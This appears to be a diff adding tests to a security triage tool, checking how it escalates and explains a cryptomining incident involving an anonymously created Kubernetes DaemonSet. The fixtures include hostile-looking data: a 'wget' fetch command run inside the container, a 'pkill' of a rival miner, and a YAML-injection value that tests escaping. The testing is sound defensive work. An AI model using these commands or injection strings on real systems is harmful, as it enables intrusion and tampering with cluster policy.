@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { parse } from 'yaml';
+import { an0745Finding, containerEvidence, DIGEST } from '../../test/support/an0745-finding.js';
+import { approvalOf } from '../model/container-policy.js';
 import type { Evidence, Finding } from '../model/finding.js';
 import { defaultPolicy } from '../model/policy.js';
 import { parsePolicy } from '../run/policy.js';
@@ -254,4 +256,168 @@ test('an executable that is not a whole absolute path (cut in its quotes, undeco
     assert.ok(!winCommands.some((c) => /-LiteralPath|\.Path -eq/.test(c)), executable);
     assert.ok(winCommands.some((c) => c.startsWith('Stop-Process -Id 7100 -Force   # check first')));
   }
+});
+
+test('AN0745: an unauthorized deployment is Tier 2 citing the creator and the authorization fact, beside pool and rival-kill reasons', () => {
+  const f = an0745Finding();
+  f.evidence.push(containerEvidence('competitor-kill', 'process', { explanation: 'pkill -9 kdevtmpfsi' }));
+  const t = triageFinding(f, defaultPolicy());
+  assert.equal(t.escalation.tier, 'Tier 2');
+  assert.deepEqual(
+    t.escalation.reasons.map((r) => r.split(':')[0]),
+    [
+      'unauthorized container deployment',
+      'unauthorized high CPU with no valid explanation',
+      'connections to known mining addresses',
+      'processes terminating each other (competing malware)',
+    ],
+  );
+  assert.equal(
+    t.escalation.reasons[0],
+    'unauthorized container deployment: DaemonSet kube-system/kube-netmon created by system:anonymous (groups system:unauthenticated) from 203.0.113.45 with python-requests/2.31.0 at 2026-12-01T02:13:05.000Z; written by an unauthenticated identity (system:anonymous); no policy or baseline authorizes that',
+  );
+  assert.ok(!t.escalation.reasons.some((r) => r.startsWith('unauthorized container or VM deployment')));
+  assert.match(t.escalation.next_steps.join(' '), /anonymous requests from 203\.0\.113\.45/);
+  // no authorization leg (an approved workload running a miner): no deployment reason, the pool still escalates
+  const approved = triageFinding(
+    an0745Finding({ legs: ['resource', 'tool'] }, { creator: 'alice@example.com', creator_groups: [] }),
+    defaultPolicy(),
+  );
+  assert.deepEqual(
+    approved.escalation.reasons.map((r) => r.split(':')[0]),
+    ['connections to known mining addresses'],
+  );
+});
+
+test('AN0745: the four questions are answered from the workload facts', () => {
+  const f = an0745Finding({}, { exec_commands: ['sh -c wget http://x/y'], denied_requests: 2 });
+  const [who, image, recent, exposure] = triageFinding(f, defaultPolicy()).questions;
+  assert.deepEqual(
+    [who.id, image.id, recent.id, exposure.id],
+    ['legitimate-process', 'destination-reputation', 'recent-changes', 'vulnerable-exposure'],
+  );
+  assert.ok([who, image, recent, exposure].every((q) => q.status === 'answered'));
+  assert.equal(
+    who.answer,
+    'DaemonSet kube-system/kube-netmon was created by system:anonymous (groups system:unauthenticated) from 203.0.113.45 with python-requests/2.31.0 at 2026-12-01T02:13:05.000Z; its pods run as service account default; 2 of its API requests were denied. Authorization: written by an unauthenticated identity (system:anonymous); no policy or baseline authorizes that.',
+  );
+  assert.deepEqual(who.evidence, ['audit/audit.log:14', 'pods.json:4']);
+  assert.match(image.answer, /^Known bad: xmrig connected to 198\.51\.100\.23:443/);
+  assert.match(
+    image.answer,
+    new RegExp(`image alpine:3\\.19 \\(repository docker\\.io/library/alpine; digest ${DIGEST}\\)`),
+  );
+  assert.match(image.answer, /Intel sets: pool-domains falco@18aa700/);
+  assert.match(
+    recent.answer,
+    /created 2026-12-01T02:13:05\.000Z by system:anonymous; 3 replicas; commands run inside it through the API: sh -c wget http:\/\/x\/y; 2 denied requests/,
+  );
+  assert.match(
+    recent.answer,
+    /kubectl -n kube-system get deploy,ds,sts,job,cronjob,pod --sort-by=\.metadata\.creationTimestamp/,
+  );
+  assert.match(
+    exposure.answer,
+    /^Yes: anonymous access to the API server is enabled: system:anonymous wrote DaemonSet kube-system\/kube-netmon from 203\.0\.113\.45/,
+  );
+  assert.match(
+    exposure.answer,
+    /asks for the host: privileged container netmon, hostPID, hostPath \/: a way out of the container onto the nodes/,
+  );
+});
+
+test('AN0745 without an audit log or intel: each question says what to check, naming the workload', () => {
+  const f = an0745Finding(
+    {
+      legs: ['resource', 'tool'],
+      evidence: [containerEvidence('sustained-cpu', 'resource')],
+      gaps: ['partial: no Kubernetes audit log for prod/batch: who created spark-1 is unknown'],
+    },
+    {
+      namespace: 'batch',
+      workload_kind: 'Job',
+      workload_name: 'spark-1',
+      destinations: [],
+    },
+  );
+  delete f.facts.creator;
+  delete f.facts.creator_groups;
+  delete f.facts.creator_source_ips;
+  delete f.facts.created;
+  const q = triageFinding(f, defaultPolicy()).questions;
+  assert.ok(q.every((x) => x.status === 'needs-analyst' && x.evidence.length === 0));
+  assert.match(
+    q[0].answer,
+    /no audit record of its creation was read \(no audit log: see gaps\).*create of Job spark-1 in batch/,
+  );
+  assert.match(q[1].answer, /matched none of the loaded intel sets/);
+  assert.match(q[2].answer, /kubectl -n batch get deploy,ds,sts,job,cronjob,pod/);
+  assert.match(q[3].answer, /check Job batch\/spark-1 for privileged, hostPID\/hostNetwork and hostPath mounts/);
+});
+
+test('AN0745 cost is the container core-hours at the policy price, with the container CPU basis', () => {
+  const policy = defaultPolicy();
+  policy.prices = { currency: 'EUR', coreHour: 0.1 };
+  assert.deepEqual(triageFinding(an0745Finding(), policy).cost, {
+    core_hours: 4.55,
+    price_per_core_hour: 0.1,
+    currency: 'EUR',
+    amount: 0.46,
+    basis: 'container CPU of 3 containers (cAdvisor/docker counters)',
+  });
+});
+
+test('AN0745 allowlist suggestion is a containers: section coalmine.yaml accepts, and it approves that workload', () => {
+  const load = (f: Finding) => {
+    const t = triageFinding(f, defaultPolicy());
+    const { policy, errors } = parsePolicy('coalmine.yaml', t.allowlist_suggestion);
+    assert.deepEqual(errors, [], t.allowlist_suggestion);
+    assert.ok(policy.containers, t.allowlist_suggestion);
+    return { text: t.allowlist_suggestion, containers: policy.containers };
+  };
+  const workload = (f: Finding) => ({
+    namespace: f.facts.namespace as string,
+    images: f.facts.images as string[],
+    digests: (f.facts.image_digests as string[] | undefined) ?? [],
+    creators: typeof f.facts.creator === 'string' ? [f.facts.creator] : [],
+    labels: {},
+  });
+
+  // pinned by digest; an anonymous creator is named as never approvable
+  const anonymous = load(an0745Finding());
+  assert.deepEqual(anonymous.containers.images, [DIGEST]);
+  assert.match(
+    anonymous.text,
+    /owner: <team or person accountable>; reason: <why it is approved, with a ticket>; review by 2027-03-01/,
+  );
+  assert.match(anonymous.text, /the creator "system:anonymous" is anonymous: no containers: entry approves it/);
+  assert.equal(approvalOf(anonymous.containers, workload(an0745Finding())), undefined);
+
+  // a named creator: the digest approves it; the creator is offered as a commented alternative
+  const ci = an0745Finding({}, { creator: 'system:serviceaccount:ci:runner', creator_groups: [] });
+  const named = load(ci);
+  assert.match(named.text, /# creators: \["system:serviceaccount:ci:runner"\]/);
+  assert.equal(approvalOf(named.containers, workload(ci)), `containers.images "${DIGEST}" (coalmine.yaml:3)`);
+
+  // no digest: the repository; no image at all: the creator; nothing: a label placeholder (never an empty section)
+  const undigested = an0745Finding({}, { image_digests: [], creator: 'bob', creator_groups: [] });
+  assert.deepEqual(load(undigested).containers.images, ['docker.io/library/alpine']);
+  assert.ok(approvalOf(load(undigested).containers, workload(undigested)));
+  const imageless = an0745Finding({}, { image_digests: [], images: [], creator: 'bob', creator_groups: [] });
+  assert.deepEqual(load(imageless).containers.creators, ['bob']);
+  const bare = an0745Finding({}, { image_digests: [], images: [] });
+  delete bare.facts.creator;
+  assert.deepEqual(load(bare).containers.labels, { 'change-ticket': 'CHG-*' });
+
+  // hostile facts stay inside their YAML strings and comments
+  const hostile = an0745Finding(
+    {},
+    {
+      creator: 'eve"\nnamespaces: [kube-system]\n#',
+      creator_groups: [],
+      workload_name: 'x\ncontainers:\n  namespaces: ["*"]',
+    },
+  );
+  const h = load(hostile);
+  assert.deepEqual(h.containers.namespaces, []);
 });
